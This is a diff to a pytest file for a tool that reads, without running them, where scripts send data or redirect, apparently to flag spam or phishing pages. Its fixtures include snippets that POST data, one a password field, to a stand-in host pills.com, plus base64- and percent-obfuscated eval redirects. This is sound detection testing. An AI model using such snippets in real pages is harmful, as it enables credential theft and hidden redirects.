@@ -1,5 +1,7 @@
 """Where scripts lead, as far as it can be read without running them."""
 
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -15,6 +17,10 @@ SCRIPTS = {
     "a request": 'var x = new XMLHttpRequest(); x.open("POST", "http://pills.com/x", true);',
     "a request of jQuery's": "$.ajax({type: 'POST', data: {p: pw}, url: 'http://pills.com/x'})",
     "a request of jQuery's, the address first": '$.ajax({\n  url: "http://pills.com/x",\n  type: "POST"})',
+    "a beacon": "navigator.sendBeacon('http://pills.com/x', d)",
+    "a script in base64": "eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cDovL3BpbGxzLmNvbS94Ig=='))",
+    "a script in percents": "eval(unescape('location.href%3D%22http://pills.com/x%22'))",
+    "a script in base64, named": "var b = 'bG9jYXRpb24uaHJlZj0iaHR0cDovL3BpbGxzLmNvbS94Ig=='; eval(atob(b))",
     "what is fetched": "fetch('http://pills.com/x', { headers: {}, method: 'POST', body: JSON.stringify(d) })",
     "escaped slashes": r"location.href = 'http:\/\/pills.com\/x'",
     "base64": "location.href = atob('aHR0cDovL3BpbGxzLmNvbS94')",
@@ -45,10 +51,36 @@ def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
     assert list(opened("import 'https://cdn.other.com/jquery.js'; var doc = 'http://www.w3.org/1999/xhtml'")) == []
 
 
-@pytest.mark.parametrize("script", ["document.write(unescape('%3Cp%3Ex'))", "document.write(atob('PHA+eHg='))"])
+@pytest.mark.parametrize(
+    "script",
+    [
+        "document.write(unescape('%3Cp%3Ex'))",
+        "document.write(atob('PHA+eHg='))",
+        "const b = 'PHA+eHh4eHh4eHh4eHh4eHh4eHh4eHh4eDwvcD4='; document.write(decodeURIComponent(escape(atob(b))))",
+        "document.write('<p>x')",
+        'document.writeln( "<p>x</p>" );',
+        "document.body.innerHTML = `<p>x`",
+        "d.insertAdjacentHTML('beforeend', '<p>x')",
+    ],
+)
 def test_a_page_that_is_written_is_read(script: str) -> None:
     (page,) = written(script)
     assert page.startswith("<p>x")
+
+
+def test_what_is_escaped_in_a_page_that_is_written_is_read_as_it_is_shown() -> None:
+    assert list(written(r"""document.write("<a\n href=\"http:\/\/pills.com\/x\">x")""")) == [
+        '<a\n href="http://pills.com/x">x'
+    ]
+
+
+@pytest.mark.parametrize("piece", ["write('<", "innerHTML=`<\\", "atob('", "'" + 50 * "A", "insertAdjacentHTML('x',"])
+def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
+    began = time.process_time()
+    for _ in range(5):
+        list(opened("atob" + piece * 20_000))
+        list(written("atob" + piece * 20_000))
+    assert time.process_time() - began < 1
 
 
 @given(
